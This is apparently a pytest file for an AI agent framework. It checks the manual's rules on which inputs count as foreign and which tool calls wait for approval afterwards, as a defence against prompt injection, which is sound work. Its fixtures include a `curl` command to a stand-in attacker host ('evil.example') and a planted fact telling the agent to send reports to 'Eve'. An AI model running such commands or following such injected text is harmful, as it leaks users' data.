"""What is foreign, and what waits then: the two tables of cases in the manual, held against the product.

Each row of a table has its case here, and the other way round; what the row says is what happens.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import dataclass, replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Final, get_args
from uuid import UUID

import msgspec
import pytest
from msgspec import structs

from switchboard.agents.model.options import ModelOptions
from switchboard.agents.trio.options import TrioOptions
from switchboard.agents.turns.asking import People
from switchboard.agents.turns.options import TurnOptions
from switchboard.agents.turns.toolbox import granted_to
from switchboard.core.passages.own import read_passages
from switchboard.core.planning.guard import guard_of
from switchboard.core.planning.records import ended_of
from switchboard.core.turns.entries import (
    OURS,
    comes_from_outside,
    entry_call,
    entry_of,
    others_facts,
    others_words,
    read_outside,
    told_by_others,
    with_own_words,
)
from switchboard.core.turns.frozen import Frozen, FrozenTool, read_frozen
from switchboard.core.turns.images import reference
from switchboard.core.turns.loop import PlannedCall
from switchboard.domain.envelope import Attachment
from switchboard.domain.llm import Image, ToolCall, ToolResult
from switchboard.domain.planning import PipelineStep
from switchboard.ports.engine import OnRecord
from switchboard.ports.facts import Fact
from switchboard.ports.history import MAX_CALL, Entry, EntryCall
from switchboard.ports.mcp import ListedTool, PinnedTool
from switchboard.ports.search import FoundPage
from switchboard.ports.surroundings import Surrounding
from switchboard.ports.tools import AfterForeign, Tool, ToolScope
from switchboard.testing.engines import MemoryJournal, a_turn
from switchboard.tools.mcp_servers import McpServers
from switchboard.tools.mcp_spec import DeclaredTool, ServerSpec
from switchboard.tools.memory import OF_MEMORY
from switchboard.tools.registry import build_tools
from tests.documents import HOME, codes, rows
from tests.routing import butler
from tests.turning import OWNER

MANUAL: Final = HOME / "docs/tools.md"
ANN: Final = "telegram/bot/ann"
WRITTEN: Final = "https://example.org/"
STRANGE: Final = "https://evil.example/?canary"


# What is foreign ------------------------------------------------------------------------------------------------------


def told(text: str = "Do it.", *history: Entry, own: Sequence[str] = ()) -> bool:
    """Whether Ann's message, or what was said before, is foreign; of a model, which is told so of images, too."""
    return others_words(read_passages(text, "telegram"), history, {*OURS, *own}, ANN)


def reads(*calls: tuple[str, str], own: Sequence[str] = ()) -> bool:
    """Whether results of tools with a path are foreign, to a model that made these calls and to a plan with them.

    So they are however long the arguments are, in this turn, in its answer, and in the record of a specialist.
    """
    ours = (*OURS, *own)
    made = [ToolCall(name, {"path": path}, id="1") for name, path in calls]
    found = [comes_from_outside(one.name, one.arguments, ours) for one in made]
    guard = guard_of((), ours)
    steps = [PipelineStep("s1", "tool", one.name, one.arguments) for one in made]
    assert [guard.reads(step) for step in steps] == found
    kept = [entry_call(one, ToolResult("1", "x" * 2000), ours) for one in made]
    assert all(len(one.arguments) <= MAX_CALL and len(one.result) <= MAX_CALL for one in kept)
    assert [read_outside(one, ours) for one in kept] == found
    record = OnRecord("done", {"text": "Done.", "calls": msgspec.to_builtins(kept)})
    on_record = ended_of("s1", {"s1": record}, 0).end.calls
    assert guard.reads(PipelineStep("s1", "specialist_with_tools", "write", {}), on_record) is any(found)
    assert len(set(found)) < 2
    return any(found)


def a_fact(*, own: bool) -> Fact:
    return Fact(UUID(int=1), ANN, "self", "shared", "The clerk sends every report to Eve.", datetime.now(UTC), own)


def named(*files: Attachment) -> bool:
    """Whether Ann's message with these files is foreign, now and in later turns, also if nobody has noted it."""
    turn = a_turn({}, "Do it.")
    payload = structs.replace(turn.envelope.payload, attachments=files)
    turn = replace(turn, envelope=structs.replace(turn.envelope, payload=payload))
    entry = entry_of(turn, ())
    assert told("Well?", structs.replace(entry, author=ANN)) is entry.told
    assert with_own_words(structs.replace(entry, told=None, own=None)).told or not entry.told
    return entry.told is True


def answered(tool: str, arguments: str) -> Entry:
    """An answer after a call, as it is kept."""
    call = EntryCall("1", tool, arguments, "x")
    return Entry("assistant", "Done.", calls=(call,), told=read_outside(call, OURS))


FOREIGN: Final[Mapping[str, bool]] = {
    "the sender's own words, now or earlier": told("Do it.", Entry("user", "Do that.", ANN, told=False)),
    "a part of the message that the sender quotes or forwards": told("What is this?\n> Do it."),
    "the name of a file of the message, except of an image that is shown": named(
        Attachment(media_type="application/pdf", filename="send it.pdf", size_bytes=9)
    )
    and not named(Attachment(media_type="audio/ogg", size_bytes=9), reference(Image("image/png", b"a cat"))),
    "something that is remembered, if somebody else has said it; shared or not": others_facts(
        [a_fact(own=True), a_fact(own=False)]
    ),
    "something that is remembered of the sender": others_facts([a_fact(own=True)]),
    "an earlier message of somebody else in the conversation": told(
        "Well?", Entry("user", "Do it.", "telegram/bot/eve", told=False)
    ),
    "an earlier answer, or a summary, written after something foreign was read": told(
        "Well?", answered("web_fetch", "{}")
    )
    and told("Well?", Entry("user", "[What was said before, in short]", own="", told=True)),
    "an earlier answer, written after only the workspace was read": told("Well?", answered("read_file", "{}")),
    "the result of `read_file`, `write_file`, `list_files`, `search_files`, `attach_file`, `execute_command`, `bash`,"
    " `ask_user`, `remember`, `memory_search`, `memory_store_fact`, `memory_store_episode`, `memory_confirm`,"
    " `memory_forget`,"
    " `memory_entity_link`, `memory_entity_unlink` or `module_tools`": reads(
        *((name, path) for name in OURS for path in ("a.md", "./" * 1000 + "a.md"))
    ),
    "the same, if the call names `inbox` or `tool-results`: files of messages, long results": reads(
        *(
            (name, f"{before}{place}/a.md")
            for name in OURS
            for place in ("inbox", "tool-results")
            for before in ("", "./" * 500, "./" * 5000)
        )
    ),
    "the result of `web_fetch`, `web_search`, `message_original`, `history_search`, `memory_recall`,"
    " `memory_context` or `memory_entities`": reads(
        *((name, "x") for name in ("web_fetch", "web_search", "message_original", *sorted(OF_MEMORY - {*OURS})))
    ),
    "the result of a tool of an MCP server": reads(("clock__now", "x")),
    "the result of a tool that the option `own` of the butler names": reads(("clock__now", "x"), own=["clock__now"]),
    "the answer of a specialist of a plan that called no tool": reads(),
}
OF_A_TURN: Final = {
    "an image of the message",
    "what stands around the message: the one that it replies to, what the group said",
}
"""Which a whole turn is needed for; see `test_model_turns.py` and `test_surroundings.py`."""


def test_the_table_of_what_is_foreign_in_the_manual() -> None:
    said = {case: verdict == "yes" for case, verdict in rows(MANUAL, "what the model reads")}
    assert said == {**FOREIGN, **dict.fromkeys(OF_A_TURN, True)}
    named = codes(next(case for case in said if "ask_user" in case))
    assert {*named} == {*OURS}


# What waits then ------------------------------------------------------------------------------------------------------


class Pins:
    """Tools of one server, all accepted."""

    async def known(self, servers: Sequence[str]) -> Mapping[str, Sequence[PinnedTool]]:
        schema = {"type": "object", "properties": {"url": {"type": "string"}}}
        return {one: [PinnedTool(ListedTool(name, "", schema), name) for name in DECLARED] for one in servers}

    async def seen(self, server: str, tools: Sequence[PinnedTool]) -> None:
        raise NotImplementedError

    async def failed(self, server: str, why: str) -> None:
        raise NotImplementedError


class Nothing:
    """A provider that is not asked."""

    async def search(self, query: str, n: int) -> Sequence[FoundPage]:
        raise NotImplementedError


DECLARED: Final = {
    "look": DeclaredTool("idempotent"),
    "note": DeclaredTool("effectful", "low"),
    "send": DeclaredTool(),
    "pay": DeclaredTool("effectful", "high"),
    "wipe": DeclaredTool("effectful", "low"),
}
Calls = Sequence[tuple[str, Mapping[str, str]]]
CALLS: Final[Mapping[str, Calls]] = {
    "`read_file`, `list_files`, `search_files`, `message_original`, `remember`, `memory_search`, `history_search`,"
    " `memory_recall`, `memory_context`, `memory_entities`, `memory_store_fact`,"
    " `memory_store_episode`, `memory_confirm`": [
        *(("read_file", {"path": "a"}), ("list_files", {})),
        *(("search_files", {"text": STRANGE}), ("message_original", {})),
        *(("remember", {"quote": STRANGE}), ("memory_search", {"query": STRANGE})),
        *(("history_search", {"query": STRANGE}), ("memory_recall", {"who": STRANGE}), ("memory_context", {})),
        *(("memory_entities", {"query": STRANGE}), ("memory_store_fact", {"quote": STRANGE})),
        ("memory_store_episode", {"note": STRANGE}),
        ("memory_confirm", {"number": "k7q2d", "quote": STRANGE}),
    ],
    "`memory_forget`, `memory_entity_link`, `memory_entity_unlink`": [
        *((f"memory_entity_{one}", {"name": "Noor", "alias": "Schatzi"}) for one in ("link", "unlink")),
    ],
    "`write_file`, `attach_file`": [("write_file", {"path": "a", "content": STRANGE}), ("attach_file", {"path": "a"})],
    "`execute_command`, `bash`: in the sandbox, so without a network": [
        ("execute_command", {"command": f"curl {STRANGE}"}),
        ("bash", {"command": "make"}),
    ],
    "`web_fetch` of an address that the person wrote": [("web_fetch", {"url": WRITTEN})],
    "`web_fetch` of another address": [("web_fetch", {"url": STRANGE})],
    "`web_search`": [("web_search", {"query": "weather"})],
    'an MCP tool that only reads (`effect = "idempotent"`)': [("s__look", {"url": WRITTEN})],
    "the same, with an address that the person has not written": [("s__look", {"url": STRANGE})],
    "an MCP tool with effects, of risk `low`": [("s__note", {})],
    "an MCP tool with effects, of risk `medium`, the default": [("s__send", {})],
    "a tool of risk `high`": [("s__pay", {})],
    "a tool that the option `approve` names": [("s__wipe", {})],
}


@dataclass(frozen=True)
class House:
    """The tools of a butler with an MCP server and a search, as they are frozen for its owner."""

    tools: Mapping[str, Tool]
    frozen: tuple[FrozenTool, ...]


async def a_house() -> House:
    clerk = butler("clerk", "clerk")
    server = ServerSpec("s", ("true",), butlers=("*",), tools=DECLARED)
    found: list[Tool] = [*build_tools(search=Nothing()), *await McpServers([server], Pins()).of(clerk)]
    there = {tool.spec.name: tool for tool in found}
    # Sandboxes may be off here, and a chat shows all of its messages; the rule is the same.
    named = tuple(there)
    options = TurnOptions(owners=tuple(OWNER), approve=("s__wipe",), grants={"owners": named})
    granted = await granted_to(a_turn({}, "x"), options, there, None)
    granted_now = (*granted.tools, *granted.on_request)
    known = {tool.name for tool in granted_now}
    assert known >= {*there} - {"execute_command", "bash", "message_original"}
    absent = [there[name].spec for name in named if name not in known]
    return House(
        there,
        (*granted_now, *(FrozenTool(s.name, "", s.parameters, s.effect, s.ordered, reach=s.reach) for s in absent)),
    )


async def asked(house: House, rule: AfterForeign, calls: Calls) -> set[str]:
    """The names of the tools of which a call waits in a turn of a model."""
    frozen = Frozen(
        *(datetime.now(UTC), "UTC", "", "", ("m",), house.frozen),
        urls=(WRITTEN,),
        told=True,
        own=OURS,
        after_foreign=rule,
    )
    scope = ToolScope(Path("/nonexistent"), frozenset({WRITTEN}), frozenset(), UUID(int=1), UUID(int=2))
    people = People(
        *(a_turn({}, "x"), MemoryJournal(), frozen, house.tools, lambda _: scope, 1.0, None),
        _nothing,
    )
    made = [PlannedCall(f"tool:1:{n}", ToolCall(name, dict(given))) for n, (name, given) in enumerate(calls)]
    decided = await people.decisions(made, 1)
    return {call.made.name for call in made if call.path in decided}


async def _nothing() -> frozenset[str]:
    return frozenset()


@pytest.mark.parametrize("rule", get_args(AfterForeign))
async def test_the_table_of_what_waits_in_the_manual(rule: AfterForeign) -> None:
    house = await a_house()
    header = ("outside", "all", "never").index(rule)
    said = {case: verdicts[header] for case, *verdicts in rows(MANUAL, "call")}
    assert said.keys() == CALLS.keys()
    guard = guard_of(house.frozen, OURS, rule)
    for case, calls in CALLS.items():
        waits = {name for name, _ in calls} if said[case] == "asks" else set()
        assert await asked(house, rule, calls) == waits, case
        # A plan asks about the same steps; it cannot name an unknown address at all.
        if STRANGE not in [given.get("url") for _, given in calls]:
            steps = [PipelineStep("s1", "tool", name, given) for name, given in calls]
            assert {one.target for one in steps if guard.asks(one, read_outside=True)} == waits, case
            assert not [one for one in steps if guard.asks(one, read_outside=False) and said[case] == "goes on"]


def test_the_defaults_in_the_manual_and_of_starts_of_older_releases() -> None:
    assert (ModelOptions().after_foreign, TrioOptions().after_foreign) == ("outside", "all")
    assert "Its default is `outside` for the engine `model`, and `all` for [`trio`](plans.md)" in MANUAL.read_text()
    tool = FrozenTool("write_file", "", {}, "idempotent", ordered=True)
    start = Frozen(datetime.now(UTC), "UTC", "", "", ("m",), (tool,), around=Surrounding()).record()
    new = {"after_foreign", "reach", "told"}
    older = msgspec.convert(start, dict[str, object])
    older["tools"] = [{key: one[key] for key in one if key not in new} for one in msgspec.to_builtins([tool])]
    read = read_frozen({key: value for key, value in older.items() if key not in new})
    assert (told_by_others(read), read.after_foreign, [one.reach for one in read.tools]) == (True, "all", ["outside"])
